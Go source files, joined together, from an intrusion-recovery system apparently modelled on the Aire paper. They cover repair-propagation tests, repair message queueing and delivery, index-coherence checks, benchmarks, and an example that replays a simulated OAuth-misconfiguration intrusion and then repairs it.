	tb.add(&kvApp{name: "b"}, DefaultConfig())

	tb.call("a", put("x", "good"))
	attack := tb.call("a", put("x", "evil"))
	tb.settle(10)
	if got := string(tb.call("b", get("x")).Body); got != "evil" {
		t.Fatalf("mirror should hold attack value, got %q", got)
	}

	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	tb.settle(10)

	if got := string(tb.call("a", get("x")).Body); got != "good" {
		t.Fatalf("a repaired to %q", got)
	}
	if got := string(tb.call("b", get("x")).Body); got != "good" {
		t.Fatalf("repair did not propagate to mirror: %q", got)
	}
}

func TestReplaceResponsePropagatesToCachingClient(t *testing.T) {
	// The Figure 2 flow: reader caches a value read from store; store
	// repairs the attack write; the reader's cached copy is fixed via
	// replace_response.
	tb := newTestbed()
	store := tb.add(&kvApp{name: "store"}, DefaultConfig())
	tb.add(&kvApp{name: "reader", upstream: "store"}, DefaultConfig())

	tb.call("store", put("x", "a"))
	attack := tb.call("store", put("x", "b"))
	tb.call("reader", wire.NewRequest("POST", "/fetch").WithForm("key", "x"))
	if got := string(tb.call("reader", get("x")).Body); got != "" {
		_ = got // reader's kv is empty; cache holds the fetched value
	}
	o, ok := readCache(tb, "reader", "x")
	if !ok || o != "b" {
		t.Fatalf("reader cache = %q, %v; want b", o, ok)
	}

	if _, err := store.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	tb.settle(10)

	o, ok = readCache(tb, "reader", "x")
	if !ok || o != "a" {
		t.Fatalf("after replace_response reader cache = %q, %v; want a", o, ok)
	}
}

func readCache(tb *testbed, svc, key string) (string, bool) {
	c := tb.ctrls[svc]
	v, ok := c.Svc.Store.Get(cacheKey(key))
	if !ok {
		return "", false
	}
	return v.Fields["val"], true
}

func TestRepairCreatesNewRemoteRequest(t *testing.T) {
	// A replace that un-suppresses mirroring: the replayed request makes a
	// call it never made originally, so a create repair flows to the mirror
	// (§3.2: "issue a new HTTP request that it did not issue during the
	// original execution").
	tb := newTestbed()
	a := tb.add(&kvApp{name: "a", mirror: "b"}, DefaultConfig())
	b := tb.add(&kvApp{name: "b"}, DefaultConfig())

	// "local:" prefix suppresses the mirror call.
	bad := tb.call("a", put("x", "local:oops"))
	tb.settle(10)
	if _, ok := b.Svc.Store.Get(kvKey("x")); ok {
		t.Fatal("precondition: mirror must not have x yet")
	}

	if _, err := a.ApplyLocal(warp.Action{
		Kind:   warp.ReplaceReq,
		ReqID:  bad.Header[wire.HdrRequestID],
		NewReq: put("x", "shared"),
	}); err != nil {
		t.Fatal(err)
	}
	tb.settle(10)

	if got := string(tb.call("b", get("x")).Body); got != "shared" {
		t.Fatalf("mirror after create = %q, want shared", got)
	}
	// The tentative timeout response recorded for the created call must
	// have been replaced by the mirror's real response.
	recs := a.Svc.Log.All()
	var found bool
	for _, r := range recs {
		for _, call := range r.Calls {
			if call.Target == "b" && !call.Tentative && call.Resp.OK() {
				found = true
			}
		}
	}
	if !found {
		t.Fatal("created call's tentative response was never replaced")
	}
	// And the call record must have learned the peer-assigned request ID so
	// future repairs can name it (delete after create must work).
	rec, _ := a.Svc.Log.Get(bad.Header[wire.HdrRequestID])
	if len(rec.Calls) != 1 || rec.Calls[0].RemoteReqID == "" {
		t.Fatalf("call record did not learn RemoteReqID: %+v", rec.Calls)
	}
}

func TestRepairDeletesDroppedRemoteCall(t *testing.T) {
	// The inverse: replacing a mirrored write with a suppressed one makes
	// re-execution skip the call, so a delete flows to the mirror.
	tb := newTestbed()
	a := tb.add(&kvApp{name: "a", mirror: "b"}, DefaultConfig())
	tb.add(&kvApp{name: "b"}, DefaultConfig())

	bad := tb.call("a", put("x", "mirrored"))
	tb.settle(10)
	if got := string(tb.call("b", get("x")).Body); got != "mirrored" {
		t.Fatalf("precondition: mirror holds %q", got)
	}

	if _, err := a.ApplyLocal(warp.Action{
		Kind:   warp.ReplaceReq,
		ReqID:  bad.Header[wire.HdrRequestID],
		NewReq: put("x", "local:private"),
	}); err != nil {
		t.Fatal(err)
	}
	tb.settle(10)

	if resp := tb.call("b", get("x")); resp.Status != 404 {
		t.Fatalf("mirror copy should be deleted, got %d %q", resp.Status, resp.Body)
	}
	if got := string(tb.call("a", get("x")).Body); got != "local:private" {
		t.Fatalf("a = %q", got)
	}
}
