package core

import (
	"encoding/json"
	"fmt"
	"strconv"

	"aire/internal/obs"
	"aire/internal/repairlog"
	"aire/internal/transport"
	"aire/internal/warp"
	"aire/internal/wire"
)

// enqueue adds repair messages to the outgoing queue, collapsing messages
// that target the same request or response (§3.2: "If multiple repair
// messages refer to the same request or the same response, Aire can
// collapse them, by keeping only the most recent repair message"). tc is
// the trace context of the repair that produced the messages: each queued
// message carries the wave at one hop deeper than the apply it came from.
func (c *Controller) enqueue(msgs []warp.OutMsg, tc traceCtx) {
	c.enqueueJoin(msgs, false, tc)
}

// enqueueJoin is enqueue with control over WAL batching: with join set the
// q-set ops fold into the caller's open WAL batch instead of landing as
// standalone entries, making the enqueue atomic with whatever the caller is
// committing (a repair's mutations, a batch's inbox outcomes). Only callers
// holding Svc.Mu with a batch open may pass join=true — a standalone
// caller's join would race another goroutine's open batch.
func (c *Controller) enqueueJoin(msgs []warp.OutMsg, join bool, tc traceCtx) {
	if len(msgs) == 0 {
		return
	}
	// A message's delivery is one hop deeper than the apply that emitted it.
	hop := tc.hop
	if tc.wave != "" {
		hop++
	}
	c.qmu.Lock()
	defer c.qmu.Unlock()
	for _, m := range msgs {
		c.smu.Lock()
		c.stats.MsgsQueued++
		c.smu.Unlock()
		c.met.msgsQueued.Inc()
		if key := collapseKey(m); key != "" {
			replaced := false
			for _, p := range c.queue {
				if p.queued && collapseKey(p.Msg) == key {
					p.Msg = m // keep the newest content, the oldest position
					p.Held = false
					p.Attempts = 0
					p.Gen++ // supersede any delivery of the old content in flight
					// Trace follows content: the surviving delivery carries
					// the superseding repair's wave.
					p.TraceID = tc.wave
					p.TraceHop = hop
					c.walEmitQSetJoinLocked(p, join)
					c.spanEnqueueLocked(p)
					replaced = true
					break
				}
			}
			if replaced {
				continue
			}
		}
		c.nextID++
		p := &PendingMsg{
			MsgID:      fmt.Sprintf("%s-msg-%d", c.Svc.Name, c.nextID),
			DeliveryID: c.Svc.IDs.Delivery(),
			Msg:        m,
			TraceID:    tc.wave,
			TraceHop:   hop,
			queued:     true,
		}
		c.queue = append(c.queue, p)
		c.qlive++
		c.vvIssueLocked(c.peerDest(m), p.DeliveryID)
		c.walEmitQSetJoinLocked(p, join)
		c.spanEnqueueLocked(p)
		c.emit(EvMsgQueued, p.MsgID, "%s -> %s (req=%s resp=%s)", m.Kind, m.Target, m.RemoteReqID, m.RespID)
	}
	c.met.queueDepth.Set(int64(c.qlive))
	c.wakePump()
}

// spanEnqueueLocked records the enqueue span of one queued (or
// re-collapsed) message. Caller holds qmu; no-op with obs disabled.
func (c *Controller) spanEnqueueLocked(p *PendingMsg) {
	if c.met.reg == nil || p.TraceID == "" {
		return
	}
	now := c.now().UnixNano()
	c.met.ring.Record(obs.Span{
		Wave: p.TraceID, Hop: p.TraceHop, Service: c.Svc.Name,
		Kind: obs.SpanEnqueue, Subject: p.DeliveryID, Peer: c.peerDest(p.Msg),
		StartNS: now, EndNS: now,
	})
}

// collapseKey identifies the request/response a repair message is about;
// messages with equal keys supersede one another. Creates are never
// collapsed (each denotes a distinct new request). Response repairs
// collapse by the local record whose response changed, not by client
// response ID: re-repairing a request replaces its outgoing calls and
// mints fresh response IDs, so a still-queued replace_response naming the
// old ID is superseded by the new one — it could never be applied (the
// client's call record no longer carries the old ID) and would otherwise
// retry into a parked 404.
func collapseKey(m warp.OutMsg) string {
	switch m.Kind {
	case warp.OutReplace, warp.OutDelete:
		return "req|" + m.Target + "|" + m.RemoteReqID
	case warp.OutReplaceResponse:
		id := m.LocalReqID
		if id == "" {
			id = m.RespID
		}
		return "resp|" + m.NotifierURL + "|" + id
	}
	return ""
}

// Pending returns a snapshot of the outgoing queue, including held messages
// awaiting Retry; applications surface these to users so stale credentials
// can be refreshed (§7.2).
func (c *Controller) Pending() []PendingMsg {
	c.qmu.Lock()
	defer c.qmu.Unlock()
	out := make([]PendingMsg, 0, c.qlive)
	for _, p := range c.queue {
		if p.queued {
			out = append(out, *p)
		}
	}
	return out
}

// QueueLen returns how many repair messages are queued (held or not).
func (c *Controller) QueueLen() int {
	c.qmu.Lock()
	defer c.qmu.Unlock()
	return c.qlive
}

// Retry revives a held repair message, optionally merging updated
// credential headers into its payload (Table 2's retry function: the
// application obtained fresh credentials and asks Aire to resend).
// Retrying a live (not-held) message without headers is a no-op — it is
// already being delivered; with headers, the refreshed content is applied
// through the same generation-bump supersede path queue collapsing uses,
// so a delivery in flight reconciles against the old generation and the
// updated content goes out on the next pass.
func (c *Controller) Retry(msgID string, updatedHeaders map[string]string) error {
	c.qmu.Lock()
	defer c.qmu.Unlock()
	for _, p := range c.queue {
		if !p.queued || p.MsgID != msgID {
			continue
		}
		if !p.Held && len(updatedHeaders) == 0 {
			// Nothing to change; the message is live and being delivered.
			return nil
		}
		if len(updatedHeaders) > 0 {
			// Clone before merging: a delivery in flight may still be
			// reading the old request's header map.
			req := p.Msg.Req.Clone()
			if req.Header == nil {
				req.Header = map[string]string{}
			}
			for k, v := range updatedHeaders {
				req.Header[k] = v
			}
			p.Msg.Req = req
			// The generation bumps only when the content actually changed:
			// a plain revive is a redelivery of the same message, and must
			// look like one to the peer's dedup inbox — bumping it would
			// reclassify an already-applied delivery as new content.
			p.Gen++ // supersede any delivery of the old content in flight
		}
		p.Held = false
		p.Attempts = 0
		p.LastErr = ""
		c.walEmitQSetLocked(p)
		c.wakePump()
		return nil
	}
	return fmt.Errorf("core: no pending message %s", msgID)
}

// Drop abandons a queued repair message (the user chose not to pursue the
// repair, §4: "ask if the message should be dropped altogether").
func (c *Controller) Drop(msgID string) error {
	c.qmu.Lock()
	defer c.qmu.Unlock()
	for i, p := range c.queue {
		if p.queued && p.MsgID == msgID {
			c.queue = append(c.queue[:i], c.queue[i+1:]...)
			p.queued = false
			c.queueShrunkLocked()
			c.vvResolveLocked(c.peerDest(p.Msg), p.DeliveryID)
			c.walEmitQDelLocked(p.MsgID)
			// Dropping a peer's last message leaves no delivery pass to
			// clean up its backoff bookkeeping — do it here.
			if peer := c.peerDest(p.Msg); !c.peerHasQueuedLocked(peer) {
				if ps := c.peers[peer]; ps != nil && !ps.inflight {
					delete(c.peers, peer)
				}
			}
			return nil
		}
	}
	return fmt.Errorf("core: no pending message %s", msgID)
}

// ExportQueue returns the outgoing queue for persistence.
func (c *Controller) ExportQueue() []PendingMsg {
	return c.Pending()
}

// ImportQueue restores a persisted outgoing queue (appended to any current
// contents, re-collapsed by message identity).
func (c *Controller) ImportQueue(msgs []PendingMsg) {
	c.qmu.Lock()
	defer c.qmu.Unlock()
	for _, m := range msgs {
		p := m
		p.inflight = false
		// Gen and DeliveryID are preserved from the snapshot: the peer's
		// dedup inbox may already remember this delivery at this
		// generation, and restarting either at zero would make a
		// post-restart redelivery look stale (or brand-new) to it.
		p.queued = true
		if key := collapseKey(p.Msg); key != "" {
			replaced := false
			for _, q := range c.queue {
				if q.queued && collapseKey(q.Msg) == key {
					q.Msg = p.Msg
					q.Held = p.Held
					q.Attempts = p.Attempts
					q.LastErr = p.LastErr
					q.TraceID = p.TraceID // trace follows content
					q.TraceHop = p.TraceHop
					if p.Gen > q.Gen {
						q.Gen = p.Gen
					}
					q.Gen++ // supersede any delivery of the old content in flight
					replaced = true
					break
				}
			}
			if replaced {
				continue
			}
		}
		c.nextID++
		if p.MsgID == "" {
			p.MsgID = fmt.Sprintf("%s-msg-%d", c.Svc.Name, c.nextID)
		}
		if p.DeliveryID == "" {
			p.DeliveryID = c.Svc.IDs.Delivery()
		}
		c.queue = append(c.queue, &p)
		c.qlive++
		c.vvIssueLocked(c.peerDest(p.Msg), p.DeliveryID)
	}
	c.wakePump()
}

// parkForPolling places a response-repair token in the named client's
// mailbox. The token itself is the fetch capability (bearer semantics),
// since an unauthenticated polling client has no transport identity.
func (c *Controller) parkForPolling(p *PendingMsg, clientID string) deliverStatus {
	m := &p.Msg
	if p.token == "" {
		p.token = c.Svc.IDs.Token()
	}
	payload, err := json.Marshal(respRepairPayload{
		RespID:      m.RespID,
		RemoteReqID: m.LocalReqID,
		Resp:        m.Resp.Encode(),
	})
	if err != nil {
		p.LastErr = err.Error()
		return deliverGone
	}
	c.tokmu.Lock()
	c.tokens[p.token] = tokenEntry{payload: payload} // empty audience = bearer
	// The token is reused across delivery attempts (a superseded-in-flight
	// message is redelivered with the same token); don't hand the client a
	// duplicate it would fail to fetch twice.
	parked := false
	for _, t := range c.mailboxes[clientID] {
		if t == p.token {
			parked = true
			break
		}
	}
	if !parked {
		c.mailboxes[clientID] = append(c.mailboxes[clientID], p.token)
	}
	c.tokmu.Unlock()
	return deliverOK
}

type deliverStatus int

const (
	deliverOK deliverStatus = iota
	// deliverRetry: the peer itself is unreachable (transport failure).
	// Delivery of everything else bound for that peer would fail the same
	// way, so the pump aborts the peer's batch and backs the peer off.
	deliverRetry
	// deliverRetryMsg: the peer answered but failed this one message (an
	// unexpected status). Only this message is charged; the rest of the
	// batch still goes out.
	deliverRetryMsg
	deliverDenied
	deliverGone
)

// deliver attempts one repair message.
func (c *Controller) deliver(p *PendingMsg) deliverStatus {
	m := &p.Msg
	switch m.Kind {
	case warp.OutReplace, warp.OutDelete, warp.OutCreate:
		return c.deliverRepairCall(p)
	case warp.OutReplaceResponse:
		return c.deliverReplaceResponse(p)
	}
	p.LastErr = "unknown repair kind " + string(m.Kind)
	return deliverGone
}

// stampDelivery adds the exactly-once session headers to a repair-plane
// carrier: the queue entry's durable delivery identity and the content
// generation claimed for this attempt, so the peer's dedup inbox can
// re-acknowledge duplicates and discard delayed superseded content. p is
// the delivery pass's private snapshot, so p.Gen is the claimed generation.
func (c *Controller) stampDelivery(req wire.Request, p *PendingMsg) {
	// Trace context is stamped even on hand-built entries: it is
	// observability-only, so it never needs the delivery-identity gate.
	if p.TraceID != "" {
		req.Header[wire.HdrTraceID] = p.TraceID
		req.Header[wire.HdrTraceHop] = strconv.Itoa(p.TraceHop)
	}
	// The body checksum guards every carrier with a payload (not just
	// identified deliveries): a corrupted body must be refused loudly
	// whatever else the carrier claims about itself.
	if len(req.Body) > 0 {
		req.Header[wire.HdrBodySum] = wire.BodySum(req.Body)
	}
	// The version vector is announced per attempt, not per claim: serial
	// reconcile-per-message advances the acked prefix between deliveries of
	// one batch, so stamping at send time keeps the announcement as fresh
	// as possible and minimizes spurious gap NACKs.
	if acked, frontier, reoffer, ok := c.vvAnnouncement(c.peerDest(p.Msg)); ok {
		req.Header[wire.HdrAckedSeq] = strconv.FormatUint(acked, 10)
		req.Header[wire.HdrFrontierSeq] = strconv.FormatUint(frontier, 10)
		if reoffer {
			req.Header[wire.HdrReoffer] = "1"
		}
	}
	if p.DeliveryID == "" {
		return // hand-built entry (tests, legacy snapshots): deliver ungated
	}
	req.Header[wire.HdrDeliveryID] = p.DeliveryID
	req.Header[wire.HdrGeneration] = strconv.FormatUint(p.Gen, 10)
	req.Header[wire.HdrOrigin] = c.Svc.Name
}

// deliverRepairCall sends replace/delete/create through the peer's repair
// API. The repaired request itself is encoded in the body, the operation in
// the Aire-Repair header — the encoding §3.1 describes.
func (c *Controller) deliverRepairCall(p *PendingMsg) deliverStatus {
	m := &p.Msg
	req := wire.NewRequest("POST", "/aire/repair")
	req.Header[wire.HdrRepair] = string(m.Kind)
	if m.RemoteReqID != "" {
		req.Header[wire.HdrRequestID] = m.RemoteReqID
	}
	if m.Kind != warp.OutDelete {
		req.Header[wire.HdrResponseID] = m.RespID
		req.Header[wire.HdrNotifierURL] = transport.NotifierURL(c.Svc.Name)
		req.Body = m.Req.Encode()
	}
	if m.Kind == warp.OutCreate {
		req.Form["before_id"] = m.BeforeID
		req.Form["after_id"] = m.AfterID
	}
	// Credentials ride on the repaired request's own headers; for delete
	// (which has no payload) copy them onto the carrier so the peer's
	// authorize can check the issuing principal (§4).
	for k, v := range m.Req.Header {
		if !wire.IsAireHeader(k) {
			req.Header[k] = v
		}
	}
	c.stampDelivery(req, p)

	dest := m.Target
	if c.topo != nil {
		// Resolve the owning shard of a sharded peer and address the
		// carrier to it directly (the shard is registered under its own
		// qualified name). The destination is also stamped on the wire so
		// a router can dispatch without re-deriving it and a shard can
		// refuse a misrouted carrier. The resolution window is a named
		// schedule point so seeded runs cover interleavings between
		// claim and send; gated on the topology, so unsharded
		// deployments keep byte-identical digests.
		dest = c.peerDest(p.Msg)
		if dest != m.Target {
			req.Header[wire.HdrShard] = dest
		}
		c.sd.YieldNamed("shard-gate")
	}
	resp, err := c.Net.Call(c.Svc.Name, dest, req)
	if err != nil {
		p.LastErr = err.Error()
		return deliverRetry
	}
	// A gap NACK can ride any response, whatever its status: the peer
	// detected a missing delivery against our announced vector and wants an
	// immediate re-offer. Recorded on the snapshot; reconciled by the pump.
	if resp.Header[wire.HdrNackSeq] != "" {
		p.nacked = true
	}
	switch {
	case resp.OK():
		// Learn the peer-assigned request ID for the repaired/created
		// request so future repairs can name it. Svc.Mu serializes this
		// against local repair, which mutates log records in place under
		// that lock — the pump delivers concurrently with repair. The
		// response-ID lookup is an O(1) index probe, and Update keeps the
		// log's call indexes coherent with the learned ID.
		if m.CallRespID != "" {
			if newID := resp.Header[wire.HdrRequestID]; newID != "" {
				c.Svc.Mu.Lock()
				if rec, i, ok := c.Svc.Log.FindByCallRespID(m.CallRespID); ok {
					_ = c.Svc.Log.Update(rec.ID, func(r *repairlog.Record) {
						r.Calls[i].RemoteReqID = newID
					})
				}
				c.Svc.Mu.Unlock()
			}
		}
		return deliverOK
	case resp.Status == 401 || resp.Status == 403:
		p.LastErr = string(resp.Body)
		return deliverDenied
	case resp.Status == 410:
		p.LastErr = string(resp.Body)
		return deliverGone
	default:
		p.LastErr = fmt.Sprintf("peer returned %d: %s", resp.Status, resp.Body)
		if unavailableStatus(resp.Status) {
			return deliverRetry
		}
		return deliverRetryMsg
	}
}

// unavailableStatus reports statuses that mean the peer itself is down even
// though something answered — a gateway fronting a dead service, or a
// timeout placeholder. They get peer-level (backoff) treatment like a
// transport error, not message-level blame.
func unavailableStatus(status int) bool {
	switch status {
	case 502, 503, 504, wire.StatusTimeout:
		return true
	}
	return false
}

// deliverReplaceResponse runs the two-step token handshake of §3.1: mint a
// token naming the corrected response, send only the token to the client's
// notifier URL, and let the client fetch (and authenticate) the payload.
// Browser-style clients with poll:// notifier URLs cannot accept inbound
// connections; their tokens are parked in a mailbox they poll.
func (c *Controller) deliverReplaceResponse(p *PendingMsg) deliverStatus {
	m := &p.Msg
	if clientID, ok := transport.ParsePollNotifierURL(m.NotifierURL); ok {
		return c.parkForPolling(p, clientID)
	}
	audience, path, err := transport.ParseNotifierURL(m.NotifierURL)
	if err != nil {
		p.LastErr = err.Error()
		return deliverGone
	}
	if p.token == "" {
		p.token = c.Svc.IDs.Token()
	}
	payload, err := json.Marshal(respRepairPayload{
		RespID:      m.RespID,
		RemoteReqID: m.LocalReqID,
		Resp:        m.Resp.Encode(),
	})
	if err != nil {
		p.LastErr = err.Error()
		return deliverGone
	}
	c.tokmu.Lock()
	c.tokens[p.token] = tokenEntry{audience: audience, payload: payload}
	c.tokmu.Unlock()

	req := wire.NewRequest("POST", path).WithForm("token", p.token, "server", c.Svc.Name)
	c.stampDelivery(req, p)
	resp, err := c.Net.Call(c.Svc.Name, audience, req)
	if err != nil {
		p.LastErr = err.Error()
		return deliverRetry
	}
	if resp.Header[wire.HdrNackSeq] != "" {
		p.nacked = true // gap NACK: see deliverRepairCall
	}
	switch {
	case resp.OK():
		return deliverOK
	case resp.Status == 401 || resp.Status == 403:
		p.LastErr = string(resp.Body)
		return deliverDenied
	default:
		p.LastErr = fmt.Sprintf("notifier returned %d: %s", resp.Status, resp.Body)
		if unavailableStatus(resp.Status) {
			return deliverRetry
		}
		return deliverRetryMsg
	}
}
