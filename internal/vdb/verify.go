// Index-coherence verification. The per-model secondary indexes (sorted
// member lists, incrementally maintained scan fingerprints) are derived
// state: every mutation path — Put, Delete, Rollback, GC, Restore, WAL
// replay — must leave them consistent with the primary object map, or scans
// silently return wrong answers long after the bug that drifted them.
// VerifyIndexes makes that contract checkable: it recomputes what the
// indexes claim from the primary state and reports the first divergence.
// The controller runs it at repair-wave start when Config.StrictIndexes is
// set, turning a latent index bug into an immediate loud failure.
package vdb

import (
	"fmt"
	"sort"
)

// VerifyIndexes cross-checks the per-model secondary indexes against the
// primary object map and returns the first inconsistency found (nil when
// coherent). It verifies that every member list is sorted and duplicate-free,
// that member lists and the object map name exactly the same keys, and that
// each model's scan fingerprint equals the recomputed contribution sum of its
// live members. lastTS is not checked: it is a fast-path high-water mark that
// Rollback legitimately leaves above any remaining version.
//
// The check is a pure read of store state (object maps, member lists,
// fingerprints); it takes the store lock but performs no mutation, minting,
// or I/O, so enabling it does not perturb deterministic schedules.
func (s *Store) VerifyIndexes() error {
	s.mu.RLock()
	defer s.mu.RUnlock()
	// Member lists: sorted, unique, and every member backed by an object.
	for m, idx := range s.models {
		for i, id := range idx.ids {
			if i > 0 && idx.ids[i-1] >= id {
				return fmt.Errorf("vdb: model %q member list unsorted at %d: %q then %q", m, i, idx.ids[i-1], id)
			}
			if len(s.objects[Key{Model: m, ID: id}]) == 0 {
				return fmt.Errorf("vdb: model %q indexes member %q but the store holds no versions for it", m, id)
			}
		}
	}
	// Every object is a member of its model's index. Together with the pass
	// above (every member is an object, lists sorted and unique) this makes
	// each member list exactly the model's key set.
	for k, vs := range s.objects {
		if len(vs) == 0 {
			return fmt.Errorf("vdb: object %s/%s present with zero versions", k.Model, k.ID)
		}
		idx := s.models[k.Model]
		if idx == nil {
			return fmt.Errorf("vdb: object %s/%s has no model index", k.Model, k.ID)
		}
		i := sort.SearchStrings(idx.ids, k.ID)
		if i >= len(idx.ids) || idx.ids[i] != k.ID {
			return fmt.Errorf("vdb: object %s/%s missing from model %q member list", k.Model, k.ID, k.Model)
		}
	}
	// Scan fingerprints: the incrementally maintained curFP must equal the
	// wrapping contribution sum recomputed from the live members.
	for m, idx := range s.models {
		var want uint64
		for _, id := range idx.ids {
			k := Key{Model: m, ID: id}
			want += liveContribLocked(k, s.objects[k])
		}
		if want != idx.curFP {
			return fmt.Errorf("vdb: model %q scan fingerprint drift: index holds %#x, live members sum to %#x", m, idx.curFP, want)
		}
	}
	return nil
}

// CorruptScanFPForTest desynchronizes a model's scan fingerprint so tests
// outside this package can prove the coherence guard fires. Creating the
// model index on demand means the corruption always takes effect, even for
// a model the store has never seen. Test hook only.
func (s *Store) CorruptScanFPForTest(model string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.model(model).curFP++
}

// DropIndexEntryForTest removes an object from its model's member list
// without touching the object itself, simulating a lost index insert. Test
// hook only.
func (s *Store) DropIndexEntryForTest(k Key) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.indexRemoveLocked(k)
}
