package harness

import (
	"fmt"
	"strings"
	"time"

	"aire/internal/core"
)

// SweepPoint is one measurement of repair cost as workload size grows.
type SweepPoint struct {
	Users            int
	TotalRequests    int
	RepairedRequests int
	RepairTime       time.Duration
	NormalTime       time.Duration
}

// SweepRepair measures Askbot repair time across user counts — the scaling
// series behind Table 5: repair cost should track the *affected* slice of
// the log (dominated by the per-user question-list views), not its total
// size.
func SweepRepair(userCounts []int, posts int) ([]SweepPoint, error) {
	var out []SweepPoint
	for _, users := range userCounts {
		s, err := NewAskbotScenario(users, core.DefaultConfig())
		if err != nil {
			return nil, err
		}
		start := time.Now()
		if err := s.PreRegister(users); err != nil {
			return nil, err
		}
		if err := s.RunAttack(); err != nil {
			return nil, err
		}
		if err := s.RunLegitTraffic(users, posts); err != nil {
			return nil, err
		}
		normal := time.Since(start)
		if err := s.Repair(); err != nil {
			return nil, err
		}
		if problems := s.Verify(); len(problems) > 0 {
			return nil, fmt.Errorf("users=%d: repair incomplete: %v", users, problems)
		}
		rr, tr, _, _ := s.Askbot.RepairCounts()
		out = append(out, SweepPoint{
			Users:            users,
			TotalRequests:    tr,
			RepairedRequests: rr,
			RepairTime:       s.Askbot.RepairDuration(),
			NormalTime:       normal,
		})
	}
	return out, nil
}

// FormatSweep renders the sweep as an aligned text series.
func FormatSweep(points []SweepPoint) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%8s %12s %12s %14s %14s\n", "users", "total reqs", "repaired", "repair time", "normal time")
	for _, p := range points {
		fmt.Fprintf(&b, "%8d %12d %12d %14s %14s\n",
			p.Users, p.TotalRequests, p.RepairedRequests,
			p.RepairTime.Round(time.Microsecond), p.NormalTime.Round(time.Microsecond))
	}
	return b.String()
}
