// Observability wiring for the storage engine. The wal package stays
// dependency-free (its Options expose plain latency hooks); persist owns
// both the WAL writer and the controller, so it is the layer that can
// connect the two: Recover fills the hooks from the controller's registry,
// and WriteCheckpoint times itself directly. With no registry configured
// everything here is a no-op and the hooks stay nil, so the WAL hot path
// keeps its zero-instrumentation cost.
package persist

import (
	"time"

	"aire/internal/core"
	"aire/internal/obs"
	"aire/internal/wal"
)

// attachWALObs fills opts' latency hooks from c's registry. Hooks the
// caller already set are left alone; a nil registry leaves them nil.
// Metric names are "wal.<service>.append_ns" / "wal.<service>.fsync_ns";
// each observation also lands a wave-less span (SpanWALAppend /
// SpanWALFsync) in the ring so /aire/debug/waves shows storage latency
// next to the cascades it serves. The hooks only read the clock and poke
// atomics/one leaf mutex — no yields, so -sched digests are unaffected.
func attachWALObs(c *core.Controller, opts *wal.Options) {
	reg := c.Obs()
	if reg == nil {
		return
	}
	svc := c.Svc.Name
	ring := reg.Ring()
	if opts.OnAppend == nil {
		appendNS := reg.Histogram("wal." + svc + ".append_ns")
		opts.OnAppend = func(d time.Duration) {
			appendNS.ObserveNS(int64(d))
			now := time.Now().UnixNano()
			ring.Record(obs.Span{Service: svc, Kind: obs.SpanWALAppend, StartNS: now - int64(d), EndNS: now})
		}
	}
	if opts.OnSync == nil {
		syncNS := reg.Histogram("wal." + svc + ".fsync_ns")
		opts.OnSync = func(d time.Duration) {
			syncNS.ObserveNS(int64(d))
			now := time.Now().UnixNano()
			ring.Record(obs.Span{Service: svc, Kind: obs.SpanWALFsync, StartNS: now - int64(d), EndNS: now})
		}
	}
}

// observeCheckpoint records one checkpoint's end-to-end latency (capture,
// marshal, fsync, rename, directory fsync) when c has a registry.
func observeCheckpoint(c *core.Controller, start time.Time) {
	reg := c.Obs()
	if reg == nil {
		return
	}
	svc := c.Svc.Name
	d := time.Since(start)
	reg.Histogram("wal." + svc + ".checkpoint_ns").ObserveNS(int64(d))
	reg.Ring().Record(obs.Span{Service: svc, Kind: obs.SpanCheckpoint,
		StartNS: start.UnixNano(), EndNS: start.UnixNano() + int64(d)})
}
