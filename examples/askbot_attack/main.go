// Command askbot_attack replays the paper's main experiment (§7.1,
// Figure 4): an OAuth-provider misconfiguration — modeled after the 2013
// Facebook OAuth bug — lets an attacker register on an Askbot-like forum as
// a victim and spread a malicious code snippet to a Dpaste-like pastebin.
// One delete repair on the provider then unwinds the whole intrusion across
// all three services.
package main

import (
	"fmt"
	"log"
	"strings"

	"aire"
	"aire/internal/core"
	"aire/internal/harness"
	"aire/internal/wire"
)

func main() {
	s, err := harness.NewAskbotScenario(5, core.DefaultConfig())
	if err != nil {
		log.Fatal(err)
	}

	fmt.Println("== setup: oauth + askbot + dpaste, 5 legitimate users seeded ==")

	fmt.Println("\n== attack ==")
	if err := s.RunAttack(); err != nil {
		log.Fatal(err)
	}
	fmt.Println("(1) admin mistakenly enables debug_verify_all on the OAuth service:", s.ConfigReqID)
	fmt.Println("(2-4) attacker registers on askbot as victim@example.org — verification bypassed")
	fmt.Println("(5) attacker posts a question; (6) askbot crossposts the code to dpaste:", s.AttackPasteID)

	if err := s.RunLegitTraffic(5, 2); err != nil {
		log.Fatal(err)
	}
	fmt.Println("\n== meanwhile, 5 legitimate users sign up, post questions, browse ==")
	list := s.TB.Call("askbot", wire.NewRequest("GET", "/questions"))
	fmt.Printf("askbot question list mentions the attack: %v\n", strings.Contains(string(list.Body), "bitcoin"))

	fmt.Println("\n== recovery: oauth admin cancels request (1) ==")
	if err := s.Repair(); err != nil {
		log.Fatal(err)
	}
	if problems := s.Verify(); len(problems) > 0 {
		log.Fatalf("repair incomplete: %v", problems)
	}
	fmt.Println("oauth: misconfiguration deleted; attacker's verify_email now fails")
	fmt.Println("askbot: attacker's signup and question re-executed away (replace_response from oauth)")
	fmt.Println("dpaste: crossposted snippet cancelled (delete from askbot)")

	list = s.TB.Call("askbot", wire.NewRequest("GET", "/questions"))
	fmt.Printf("askbot question list mentions the attack: %v\n", strings.Contains(string(list.Body), "bitcoin"))
	fmt.Printf("legitimate questions preserved: %d\n", len(s.LegitQuestionIDs))

	fmt.Println("\n== compensations & stats ==")
	for _, svc := range []string{"oauth", "askbot", "dpaste"} {
		ctrl := s.TB.Ctrls[svc]
		rr, tr, ro, to := ctrl.RepairCounts()
		st := ctrl.Stats()
		fmt.Printf("%-7s repaired %3d/%3d requests, %3d/%4d model ops, sent %d repair msg(s)\n",
			svc, rr, tr, ro, to, st.MsgsDelivered)
		for _, n := range ctrl.Notifications() {
			if n.Kind == "compensation" {
				fmt.Printf("        compensation: %s\n", truncate(n.Detail, 90))
			}
		}
	}
	_ = aire.Request{} // keep the public package linked in for godoc discovery
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "..."
}
