package core

import (
	"strconv"

	"aire/internal/deliver"
